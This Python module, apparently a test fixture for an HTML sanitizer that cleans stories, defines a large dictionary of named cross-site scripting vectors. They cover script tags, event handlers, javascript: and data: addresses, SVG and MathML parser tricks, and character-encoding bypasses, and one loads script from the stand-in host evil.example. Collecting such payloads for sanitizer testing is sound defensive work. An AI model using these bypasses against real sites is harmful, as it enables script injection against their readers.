"""Markup that tries to run ``alert(1)`` in the browser of whoever reads a cleaned story."""

UUID = "4a06dbf5-69e9-4fc5-b963-88d7d4161413"

VECTORS: dict[str, str] = {
    # Script elements.
    "script": "<script>alert(1)</script>",
    "script in mixed case": '<ScRiPt SRC="data:text/javascript,alert(1)"></sCrIpT>',
    "script from elsewhere": "<script src=//evil.example/alert.js></script>",
    "script unclosed": "<script>/**/alert(1)//",
    "script with half a tag": "<script src=data:,alert(1)",
    "script in script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script after a slash": '<script/x/src="data:,alert(1)"></script>',
    "script with a form feed": "<script\x0c>alert(1)</script\x0c>",
    "script closed with attributes": "<script >alert(1)</script/junk='>'>",
    "script after two brackets": "<<script>alert(1);//<</script>",
    "script in backticks": "<script src=`data:,alert(1)`></script>",
    "script as a module": "<script type=module>alert(1)</script>",
    "script that imports": "<script>import('data:text/javascript,alert(1)')</script>",
    "script by an import map": (
        '<script type=importmap>{"imports":{"x":"data:text/javascript,alert(1)"}}</script>'
        '<script type=module>import "x"</script>'
    ),
    "script in an HTML comment of its own": "<script><!--\nalert(1)\n--></script>",
    "script escaped twice": "<script><!--<script></script>\nalert(1)\n--></script>",
    "script for an event": "<script for=window event=onload>alert(1)</script>",
    "script in another language": "<script language=vbscript>alert(1)</script>",
    "script with a letter escaped": "<script>\\u0061lert(1)</script>",
    "script in base64": "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "script in pieces": "<script>window['al' + 'ert'](1)</script>",
    "script without brackets": "<script>alert`1`</script>",
    "script that throws": "<script>onerror=alert;throw 1</script>",
    "script in a select": "<select><option><script>alert(1)</script></select>",
    "script in a paragraph's title": '<p title="</p><script>alert(1)</script>">x</p>',
    # Handlers that fire by themselves.
    "onerror": "<img src=x onerror=alert(1)>",
    "onerror in a figure": '<figure><img src="/a.jpg" onerror="alert(1)"></figure>',
    "onerror after slashes": "<img/src='x'/onerror='alert(1)'/>",
    "onerror after a quote": '<img """><img src=x onerror="alert(1)">',
    "onerror after form feeds": "<IMG\x0cSRC=x\x0cONERROR=alert(1)>",
    "onerror on lines of its own": "<IMG\nSRC\n=\nx\nONERROR\n=\nalert(1)\n>",
    "onerror twice": "<img src=x onerror=alert(1) onerror=void(0) id=1 id=2>",
    "onerror in an image": "<image src=x onerror=alert(1)>",
    "onerror of a script": "<script src=x onerror=alert(1)></script>",
    "onerror of a style sheet": "<link rel=stylesheet href=x onerror=alert(1)>",
    "onerror of a video": "<video src=x onerror=alert(1)></video>",
    "onerror of a source": '<video><source onerror="alert(1)"></video>',
    "onerror of a sound": "<audio src onerror=alert(1)>",
    "onerror of a track": "<video src=x><track default src=x onerror=alert(1)></video>",
    "onerror of an object": "<object data=x onerror=alert(1)></object>",
    "onerror of a picture button": "<input type=image src=x onerror=alert(1)>",
    "onerror by decimal references": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "onerror by a padded reference": '<img src=x onerror="&#0000000000097lert(1)">',
    "onerror by a hex reference": '<img src=x onerror="&#X61lert&lpar;1&rpar;">',
    "onload of a picture": (
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="'
        " onload=alert(1)>"
    ),
    "onload of the body": "</p><body onload=alert(1)>x",
    "onpageshow of the body": "<body class=x onpageshow=alert(1)>",
    "onload of html": "<html onload=alert(1) onmouseover=alert(1)>x",
    "onload of a frame": "<iframe onload=alert(1)></iframe>",
    "onload of a style": "<style onload=alert(1)></style>",
    "onload of a style sheet": '<link rel=stylesheet href="data:text/css," onload=alert(1)>',
    "onload of an embed": '<embed src="data:text/plain,x" onload=alert(1)>',
    "onloadstart": "<audio src=x onloadstart=alert(1)></audio>",
    "ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "ontoggle in one group": (
        "<details name=a open>x</details><details name=a open ontoggle=alert(1)>y</details>"
    ),
    "onstart": "<marquee onstart=alert(1)>x</marquee>",
    "onfinish": "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
    "onfocus of an input": "<input autofocus onfocus=alert(1)>",
    "onfocus of a select": "<select autofocus onfocus=alert(1)></select>",
    "onfocus of a textarea": "<textarea autofocus onfocus=alert(1)></textarea>",
    "onfocus of a paragraph": "<p tabindex=1 autofocus onfocus=alert(1)>x</p>",
    "onfocus of nothing known": "<x-y contenteditable autofocus onfocusin=alert(1)>x</x-y>",
    "onanimationstart": (
        "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>x</p>"
    ),
    "onwebkitanimationend": (
        "<style>@keyframes y{}</style><b style='animation:y 1ms' onwebkitanimationend=alert(1)>x"
    ),
    "oncontentvisibilityautostatechange": (
        "<p style='content-visibility:auto' oncontentvisibilityautostatechange=alert(1)>x</p>"
    ),
    "onreadystatechange": "<object type=text/html onreadystatechange=alert(1)></object>",
    "onpropertychange": "<bgsound src=x onpropertychange=alert(1)>",
    "isindex": "<isindex type=image src=x onerror=alert(1)>",
    "picture in a portal": "<portal src=x onload=alert(1)><img src=x onerror=alert(1)></portal>",
    # Handlers that wait for the reader.
    "onclick": '<p onclick="alert(1)">x</p>',
    "onclick deep inside": (
        '<div><p><b><a href="/x"><i onclick="alert(1)"><u style="alert(1)">x</u></i></a></b></p>'
        "</div>"
    ),
    "onclick of nothing known": "<x-y onclick=alert(1)>x</x-y>",
    "onclick in an end tag": "<p>x</p onclick=alert(1)>y",
    "onmouseover of a link": '<a href="/x" onmouseover="alert(1)">x</a>',
    "onpointerenter": "<h2 onpointerenter=alert(1)>x</h2>",
    "onpointerrawupdate": "<blockquote onpointerrawupdate=alert(1)>x</blockquote>",
    "onauxclick": "<td onauxclick=alert(1)>x</td>",
    "ondragstart": "<li draggable=true ondragstart=alert(1)>x</li>",
    "oncontextmenu": "<em oncontextmenu=alert(1)>x</em>",
    "oncopy": "<strong oncopy=alert(1) oncut=alert(1) onpaste=alert(1)>x</strong>",
    "onwheel": "<sub onwheel=alert(1) onscrollend=alert(1)>x</sub>",
    "onselectstart": "<sup onselectstart=alert(1)>x</sup>",
    "onkeydown": "<input onkeydown=alert(1) onbeforeinput=alert(1) onsearch=alert(1)>",
    "oninvalid": "<form><input required oninvalid=alert(1)><button>x</button></form>",
    "onformdata": "<form onsubmit=alert(1) onformdata=alert(1)><button>x</button></form>",
    "onbeforetoggle": (
        "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=alert(1)>y</p>"
    ),
    "onclose of a dialog": (
        "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>"
    ),
    "oncommand of a dialog": (
        "<button command=show-modal commandfor=d>x</button>"
        "<dialog id=d oncommand=alert(1)>y</dialog>"
    ),
    "ontransitionend": (
        "<a href=# tabindex=1 style='transition:outline 1ms' ontransitionrun=alert(1)"
        " ontransitionend=alert(1)>x</a>"
    ),
    "onbeforematch": "<p hidden=until-found onbeforematch=alert(1)>x</p>",
    "handler by another name": "<hr data-onclick=alert(1) :onclick=alert(1) @click=alert(1)>",
    # Addresses that are scripts: how the scheme can be written.
    "javascript": '<a href="javascript:alert(1)">x</a>',
    "javascript in mixed case": '<a href=" JaVaScRiPt:alert(1)">x</a>',
    "javascript without quotes": "<a href=javascript:alert(1)>x",
    "javascript in backticks": "<a href=`javascript:alert(1)`>x</a>",
    "javascript by decimal references": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'
    ),
    "javascript by hex references": (
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'
    ),
    "javascript by open references": "<a href='&#106&#97&#118&#97&#x73&#x63ript&#58alert(1)'>x</a>",
    "javascript by padded references": (
        '<a href="&#0000106&#0000097&#x00000076&#x0000061script&#0000058alert(1)">x</a>'
    ),
    "javascript by names": '<a href="java&Tab;scr&NewLine;ipt&colon;alert&lpar;1&rpar;">x</a>',
    "javascript by references twice": '<a href="&amp;#106;avascript:alert(1)">x</a>',
    "javascript percent-encoded": '<a href="javascript%3Aalert(1)">x</a>',
    "javascript with a letter encoded": '<a href="%6aavascript:alert(1)">x</a>',
    "javascript with a tab": '<a href="java\tscript:alert(1)">tab</a>',
    "javascript with a newline": '<a href="java\nscript:alert(1)">newline</a>',
    "javascript with a return": '<a href="javascript\r:alert(1)">return</a>',
    "javascript with a tab by reference": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript with a return by reference": '<a href="&#13;javascript&#xD;:alert(1)">x</a>',
    "javascript after a control": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript after an escape": '<a href="\x1b\x0bjavascript:alert(1)">x</a>',
    "javascript after a control by reference": '<a href="&#1;&#x1f;javascript:alert(1)">x</a>',
    "javascript after C1 controls": '<a href="&#x81;\x8djavascript:alert(1)">x</a>',
    "javascript with a NUL": '<a href="java\x00script:alert(1)">x</a>',
    "javascript with a NUL by reference": '<a href="java&#0;script:alert(1)">x</a>',
    "javascript with a delete": '<a href="java\x7fscript:alert(1)">x</a>',
    "javascript after a no-break space": '<a href="&nbsp;javascript:alert(1)">x</a>',
    "javascript after a wide space": '<a href="\u3000javascript:alert(1)">x</a>',
    "javascript after a line separator": '<a href="\u2028javascript&colon;alert(1)">x</a>',
    "javascript after a byte order mark": '<a href="\ufeffjavascript:alert(1)">x</a>',
    "javascript after no character": '<a href="\uffffjavascript:alert(1)">x</a>',
    "javascript with a soft hyphen": '<a href="java&shy;script:alert(1)">x</a>',
    "javascript with no width": '<a href="java&ZeroWidthSpace;script\u200d:alert(1)">x</a>',
    "javascript from the right": '<a href="\u202ejavascript:alert(1)">x</a>',
    "javascript in full width": '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>',
    "javascript with a full-width colon": '<a href="javascript：alert(1)">x</a>',
    "javascript with a long s": '<a href="java\u017fcript:alert(1)">x</a>',
    "javascript with a dotless i": '<a href="javascr\u0131pt:alert(1)">x</a>',
    "javascript with a Cyrillic a": '<a href="j\u0430v\u0430script:alert(1)">x</a>',
    "javascript with a comment": '<a href="javascript:/*--></p></a>*/alert(1)">x</a>',
    "javascript with a host": '<a href="javascript://news.example/%0aalert(1)">x</a>',
    "javascript with a host that is an address": (
        '<a href="javascript:/https:/.test(alert(1))//news.example/">x</a>'
    ),
    "javascript before a web address": (
        '<a href="javascript:alert(1)//https://news.example/">x</a>'
    ),
    "javascript after slashes": '<a href="//javascript:alert(1)">x</a>',
    "javascript after backslashes": r'<a href="\\javascript:alert(1)">x</a>',
    "javascript after http": '<a href="http:javascript:alert(1)">x</a>',
    "javascript after https": '<a href="https:javascript:alert(1)">x</a>',
    "javascript in a view of the source": '<a href="view-source:javascript:alert(1)">x</a>',
    "javascript in a feed": '<a href="feed:javascript:alert(1)">x</a>',
    "javascript in an archive": '<a href="jar:javascript:alert(1)!/x">x</a>',
    "javascript as a user": '<a href="https://javascript:alert(1)@news.example/">x</a>',
    "livescript": '<a href="livescript:alert(1)">x</a>',
    "mocha": '<a href="mocha:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:alert(1)">x</a>',
    "vbscript in pieces": '<a href="VB&#10;Scrip&#9;t:alert(1)">x</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data in base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data without a type": '<a href="DATA:;charset=utf-8,%3Csvg onload=alert(1)%3E">x</a>',
    "data with a drawing": (
        '<a href="da&Tab;ta:image/svg+xml,'
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">x</a>"
    ),
    "data in XHTML": (
        "<a href=\"data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>"
        'alert(1)</script>">x</a>'
    ),
    "blob": '<a href="blob:javascript:alert(1)">x</a>',
    "host with brackets": '<a href="//<svg onload=alert(1)>/">x</a>',
    "host with wide brackets": '<a href="https://＜script＞alert(1)＜／script＞/">x</a>',
    "host with percent signs": '<a href="https://%3Cscript%3Ealert(1)%3C%2Fscript%3E/">x</a>',
    "host with a quote": "<a href='//news.example\" onclick=alert(1) x=\"'>x</a>",
    "link in a link": '<a href="/x">one<a href="javascript:alert(1)">two</a></a>',
    "link across a table": '<a href="/x"><table><td><a href="javascript:alert(1)">x</table>y</a>',
    "link in a wrong nest": '<a href="javascript:alert(1)"><b><p>x</a>y</b></p>',
    # Addresses that are scripts: where they can stand.
    "address of a picture": '<figure><img src="javascript:alert(1)"></figure>',
    "address of a picture with a quote": (
        "<figure><img src='https://a.example\" onerror=alert(1)//b.example/'></figure>"
    ),
    "address of a picture by references": "<img src=&#x6A&#x61&#x76&#x61script:alert(1)>",
    "address of a picture with a return": '<img src="jav&#x0D;ascript:alert(1)">',
    "address of a picture that is a drawing": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'"
        " onload='alert(1)'/>\">"
    ),
    "address of an image": "<image src='javascript:alert(1)'>",
    "other addresses of a picture": (
        '<img src="/a.jpg" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)"'
        ' longdesc="javascript:alert(1)" usemap="javascript:alert(1)">'
    ),
    "srcset": '<figure><img src="/a.jpg" srcset="javascript:alert(1) 2x" sizes=1px></figure>',
    "srcset of a source": (
        '<picture><source srcset="javascript:alert(1)"><img src="/a.jpg"></picture>'
    ),
    "address of an area": '<map name=m><area href="javascript:alert(1)"></map><img usemap=#m>',
    "ping": '<a href="/x" ping="javascript:alert(1)">x</a>',
    "cite": (
        '<blockquote cite="javascript:alert(1)"><q cite="javascript:alert(1)">x</q></blockquote>'
    ),
    "cite of a change": (
        '<ins cite="javascript:alert(1)">x</ins><del cite=javascript:alert(1)>y</del>'
    ),
    "background of the body": '<body background="javascript:alert(1)">',
    "background of a table": (
        '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>'
    ),
    "poster": '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
    "source of a sound": '<audio controls><source src="javascript:alert(1)"></audio>',
    "source of a track": '<video><track default src="javascript:alert(1)"></video>',
    "action": '<form action="javascript:alert(1)"><input type=submit value=x></form>',
    "formaction": '<form><button formaction="javascript:alert(1)">x</button></form>',
    "formaction from outside": (
        '<form id=f></form><input type=submit form=f formaction="javascript:alert(1)">'
    ),
    "action of an isindex": '<isindex action="javascript:alert(1)" type=submit>',
    "base": '<base href="javascript:alert(1)//"><a href="#">x</a>',
    "link to a style sheet": '<link rel=stylesheet href="javascript:alert(1)">',
    "link to a module": '<link rel=modulepreload href="data:text/javascript,alert(1)">',
    "link to an import": '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    "link to a picture": '<link rel=preload as=image imagesrcset="javascript:alert(1)">',
    "manifest": '<html manifest="javascript:alert(1)"><head profile="javascript:alert(1)">',
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "refresh to data": (
        '<META HTTP-EQUIV=refresh CONTENT="0; url=data:text/html,<script>alert(1)</script>">'
    ),
    "refresh to two addresses": (
        '<meta http-equiv=refresh content="0; URL=http://;URL=javascript:alert(1)">'
    ),
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "frame by names": '<iframe src="&Tab;java&NewLine;script&colon;alert(1)">',
    "frame with data": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frame with an escaped document": (
        "<iframe srcdoc=&lt;img&Tab;src&equals;x&Tab;onerror=alert(1)&gt;>"
    ),
    "frame in a sandbox": (
        '<iframe sandbox="allow-scripts allow-modals" srcdoc="<svg onload=alert(1)>"></iframe>'
    ),
    "frameset": '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    "object": '<object data="javascript:alert(1)"></object>',
    "object with data": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "object with parameters": (
        "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389 codebase=javascript:alert(1)>"
        "<param name=url value=javascript:alert(1)></object>"
    ),
    "embed": '<embed src="javascript:alert(1)">',
    "embed with a drawing": (
        '<embed type=image/svg+xml src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53'
        'My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nYWxlcnQoMSknLz4=">'
    ),
    "applet": "<applet code=javascript:alert(1) archive=javascript:alert(1)>x</applet>",
    "portal": '<portal src="javascript:alert(1)"></portal><fencedframe src=javascript:alert(1)>',
    "bgsound": '<bgsound src="javascript:alert(1)">',
    "layer": '<layer src="javascript:alert(1)"></layer><ilayer src="javascript:alert(1)">',
    "data island": '<xml id=x src="javascript:alert(1)"></xml><p datasrc=#x datafld=alert(1)>x</p>',
    "names of fields": (
        '<p itemscope itemtype="javascript:alert(1)" resource="javascript:alert(1)">x</p>'
    ),
    # Numbers that are none.
    "colspan": '<table><tr><td colspan="javascript:alert(1)">x</td></tr></table>',
    "rowspan": "<table><tr><th rowspan='2\" onclick=alert(1)'>x</th></tr></table>",
    "start": '<ol start="1;alert(1)"><li value="alert(1)" type="alert(1)">x</li></ol>',
    # Style.
    "style with an import": "<style>@import 'javascript:alert(1)'; p { color: red }</style>",
    "style with an address": '<style>li { list-style: url("javascript:alert(1)") }</style><li>x',
    "style with a closed end": "<style></style/><script>alert(1)</script>",
    "style that ends in an attribute": '<style><p title="</style><img src=x onerror=alert(1)>">',
    "style that says it is a script": "<style type=text/javascript>alert(1)</style>",
    "style of a paragraph": '<p style="background: url(javascript:alert(1))">x</p>',
    "style with an expression": '<h2 style="x:expression(alert(1))" id=x class=y>x</h2>',
    "style with a split expression": '<b style="x:\\65xp/**/ression(alert(1))">x</b>',
    "style with a behaviour": "<p style=\"behavior: url('javascript:alert(1)')\">x</p>",
    "style with a binding": (
        "<p style='-moz-binding: url(data:text/xml;charset=utf-8,"
        "%3Cbindings xmlns=%22http://www.mozilla.org/xbl%22%3Ealert(1))'>x</p>"
    ),
    "style that covers the page": (
        '<a href="javascript:alert(1)" style="position:fixed;inset:0;z-index:9">x</a>'
    ),
    # SVG.
    "svg": "<svg onload=alert(1)>",
    "svg after a slash": "<svg/onload=alert&#40;1&#41;//",
    "svg with a script": "<svg><script>alert&#40;1&#41;</script></svg>",
    "svg with a split script": "<svg><script>al<!-- -->ert(1)</script></svg>",
    "svg with the address of a script": '<svg><script href="data:,alert(1)" /></svg>',
    "svg with another address of a script": "<svg><script xlink:href=data:,alert(1)></script>",
    "svg with a link": '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
    "svg with a base": (
        '<svg xml:base="javascript:alert(1)//"><a xlink:href="#"><text y=9>x</text></a>'
    ),
    "svg that animates": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg that ends": "<svg><animate onend=alert(1) attributeName=x dur=1ms></svg>",
    "svg that discards": "<svg><discard onbegin=alert(1) /></svg>",
    "svg that transforms": "<svg><animateTransform onrepeat=alert(1) dur=1ms repeatCount=2 />",
    "svg that animates a link": (
        '<svg><a><animate attributeName=href values="javascript:alert(1)" /><text y=9>x</text>'
        "</a></svg>"
    ),
    "svg that sets a link": (
        "<svg><set href=#s attributeName=href to=javascript:alert(1) /><a id=s><text y=9>x</text>"
        "</a>"
    ),
    "svg that sets a handler": (
        "<svg><set attributeName=onclick to=alert(1) /><text y=9>x</text></svg>"
    ),
    "svg with a drawing": (
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        "<image href='x' onerror='alert(1)'/></svg>#x\" /></svg>"
    ),
    "svg with a picture": "<svg><image xlink:href=x onerror=alert(1) /></svg>",
    "svg with a handler": (
        '<svg xmlns:ev="http://www.w3.org/2001/xml-events">'
        '<handler ev:event="load">alert(1)</handler></svg>'
    ),
    "svg with a listener": '<svg><listener event="load" handler="javascript:alert(1)" /></svg>',
    "svg with a foreign picture": (
        '<svg><foreignObject><img src=x onerror="alert(1)"></foreignObject></svg>'
    ),
    "svg with a foreign frame": (
        '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'
    ),
    "svg with a description": "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "svg with a title": (
        '<svg><title><style><img title="</style><img src=x onerror=alert(1)>"></style></title>'
        "</svg>"
    ),
    "svg with a style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "svg with a style after a paragraph": (
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'
    ),
    "svg with a style in a paragraph": (
        '<svg><p><style><img title="</style><img src=x onerror=alert(1)>"></style></p></svg>'
    ),
    "svg left by a font": '<svg><font color=red><p title="</svg><img src=x onerror=alert(1)>">',
    "svg with CDATA": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "svg with CDATA and a style": (
        "<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>"
    ),
    "svg with a comment": "<svg><!--<![CDATA[--><img src=x onerror=alert(1)><!--]]>--></svg>",
    "svg with prefixed names": "<svg><svg:script>alert(1)</svg:script><x:a onclick=alert(1)>x",
    # MathML.
    "math": '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "math that is a link": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "math with an action": (
        '<math><maction actiontype="statusline#alert(1)" xlink:href="javascript:alert(1)">x'
    ),
    "math with a picture": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "math with an annotation": (
        '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>'
    ),
    "math with a foreign annotation": (
        '<math><annotation-xml encoding="MathML"><svg><style><p id="</style><svg onload=alert(1)>">'
    ),
    "math with a comment in a style": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "math with a malignmark": (
        '<math><mi><table><malignmark><style><p title="</style><img src=x onerror=alert(1)>">'
    ),
    "math and forms": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "math and a list": (
        '<math><mtext><ul><mglyph><xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'
    ),
    "math and svg": (
        "<math><mtext><svg><mtext><textarea><a title=\"</textarea><img src=x onerror='alert(1)'>\">"
    ),
    # Text that is markup for one reader and not for the next.
    "title": "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "title with a script": "<title><script>alert(1)</script></title>",
    "textarea": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "noscript with a style": "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "noscript with a comment": (
        "<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>"
    ),
    "noembed": '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "noframes": '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    "iframe": '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "xmp with a script": "<xmp><script>alert(1)</script></xmp>",
    "plaintext": "<plaintext><script>alert(1)</script></plaintext>",
    "listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "template": "<template><script>alert(1)</script></template>",
    "template left early": (
        "<template><p title='</template><img src=x onerror=alert(1)>'></template>"
    ),
    "template with a shadow": (
        "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>"
    ),
    "select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "select with a frame": "<select><iframe></select><img src=x onerror=alert(1)></iframe>",
    "select with a template": (
        "<select><template><select></template></select><img src=x onerror=alert(1)>"
    ),
    "option": "<option><!--</option><svg onload=alert(1)>--><option>",
    # Elements that the parser moves.
    "table with a picture": "<table><img src=x onerror=alert(1)><tr><td>x</table>",
    "table with a style": "<table><style><td title='</style><img src=x onerror=alert(1)>'></table>",
    "table with a script in a row": "<table><tr><script>alert(1)</script></tr></table>",
    "table in a caption": "<table><caption><table><form></caption><svg onload=alert(1)></table>",
    "table of columns": (
        "<table><colgroup><template><col></template></colgroup><svg onload=alert(1)>"
    ),
    "table with a hidden input": (
        "<table><input type=hidden><input autofocus onfocus=alert(1)></table>"
    ),
    "form in a form": "<form><table><form><td></form><img src=x onerror=alert(1)></table>",
    "frameset after text": (
        "x<frameset><noframes></frameset><img src=x onerror=alert(1)></noframes>"
    ),
    "head in the body": "<p>x<head><body><head><script>alert(1)</script></head>",
    "nobr and marquee": "<nobr><marquee><nobr></marquee><img src=x onerror=alert(1)></nobr>",
    # Comments, declarations and the like.
    "comment": "<!--><script>alert(1)</script>-->",
    "comment of three dashes": "<!---><img src=x onerror=alert(1)>-->",
    "comment ended with a mark": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment in a comment": "<!-- <!-- --> <svg onload=alert(1)> -->",
    "comment with a picture": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "comment with a condition": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "comment with an open condition": "<![if true]><script>alert(1)</script><![endif]>",
    "comment element": '<comment><img src="</comment><img src=x onerror=alert(1)//">',
    "comment that is a declaration": '<! x=">" y="><script>alert(1)</script>">',
    "comment that is an end tag": '</ x="><script>alert(1)</script>">',
    "comment that is an instruction": '<? x="><script>alert(1)</script>">',
    "comment of another template": '<% x="%><script>alert(1)</script>">',
    "instruction": '<?xml-stylesheet type="text/css" href="javascript:alert(1)"?>',
    "instruction with PHP": '<?php echo "?><script>alert(1)</script>"; ?>',
    "instruction for another namespace": (
        '<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML"'
        ' to="<script defer>alert(1)</script>">'
    ),
    "doctype": '<!DOCTYPE x [<!ENTITY y "alert(1)">]>&y;',
    "doctype with markup": "<!DOCTYPE html [<!ENTITY y '><script>alert(1)</script>'>]>",
    "entity from elsewhere": '<!ENTITY y SYSTEM "javascript:alert(1)"><p>&y;</p>',
    "CDATA": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "CDATA in a paragraph": "<p><![CDATA[<script>alert(1)</script>]]></p>",
    # Broken tags and quotes.
    "half a tag": '<img src="/a.jpg" onerror="alert(1)"',
    "half a tag before another": "<img src=x onerror=alert(1) <b>x</b>",
    "quote in no value": "<p title=x\"onclick=alert(1)'>x</p>",
    "quotes without a space": '<p title="x"onclick="alert(1)">x</p>',
    "quote unclosed": '<p title="x>y</p><img src=x onerror="alert(1)">',
    "quotes mixed": "<a title='\"' href='javascript:alert(1)' title=\"'\">x</a>",
    "backtick in a title": '<p title="``onmouseover=alert(1)">x</p>',
    "equals signs": "<a =\"x\" ='y' href==javascript:alert(1) href=javascript:alert(1)>x</a>",
    "bracket in a name": "<a<b<img src=x onerror=alert(1)>x</a>",
    "end tag first": "</p></li></td></table></figure></div></body></html><svg onload=alert(1)>",
    "end tag with a picture": '</p title="><img src=x onerror=alert(1)>">',
    "picture that hangs": "<img src='https://evil.example/?alert(1)",
    "picture that hangs in a link": '<a href="/x"><img src="javascript:alert(1)<p>x</a>',
    "link that hangs": "<a href='javascript:alert(1)//\n<b>x</b>\n<p id=",
    "target that hangs": '<base target=\'\n<a href="javascript:alert(1)">x</a>',
    "form that hangs": "<form action='javascript:alert(1)//><button>x<textarea>",
    # Characters that one reader drops and another keeps.
    "NUL in a tag": "<im\x00g src=x onerror=alert(1)><scr\x00ipt>alert(1)</scr\x00ipt>",
    "NUL in a handler": "<img src=x on\x00error=alert(1)>",
    "NUL before a tag": "<\x00svg onload=alert(1)><\x00/svg>",
    "NUL in a comment": "<!-\x00-><img src=x onerror=alert(1)><!-\x00->",
    "control before a handler": "<img src=x alt \x0bonerror=alert(1)>",
    "control in a tag": "<sc\x1bript>alert(1)</sc\x1bript>",
    "control for a bracket": "<p title=x&#62;&#60;img/src=x/onerror=alert(1)&#62;>x</p>",
    "no character in a tag": "<\ufffescript>alert(1)</script>",
    "full-width brackets": "＜script＞alert(1)＜/script＞",
    "small brackets": "﹤img src=x onerror=alert(1)﹥",
    "bracket with a stroke": "<\u0338img src=x onerror=alert(1)>\u0338",
    "stroke after a tag": '<a href="/x">\u0338 onclick=alert(1) x</a>',
    "long s in a tag": "<\u017fcript>alert(1)</\u017fcript><\u017fvg onload=alert(1)>",
    "Kelvin sign in a tag": "<mar\u212aee onstart=alert(1)><lin\u212a rel=x onerror=alert(1)>",
    "Kelvin sign in a handler": "<p onclic\u212a=alert(1) on\u212aeydown=alert(1)>x</p>",
    "dotted I in a tag": "<\u0130mg src=x onerror=alert(1)><scr\u0130pt>alert(1)</scr\u0130pt>",
    "ligature in a tag": "<ob\ufb06 onclick=alert(1)><\ufb06yle onload=alert(1)></\ufb06yle>",
    "bytes too long": "\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",
    "bytes of UTF-7": ("<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "bytes that switch": (
        '<meta charset=iso-2022-jp><a title="\x1b$B">x</a>\x1b(B<p title=">'
        '<img src=x onerror=alert(1)>">'
    ),
    "references": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "references open": "&ltimg src=x onerror=alert(1)&gt",
    "references in capitals": "&LT;svg onload=alert(1)&GT;",
    "references twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "references in a paragraph's title": '<p title="&quot;&gt;&lt;svg onload=alert(1)&gt;">x</p>',
    "percent signs": "%3Cscript%3Ealert(1)%3C/script%3E",
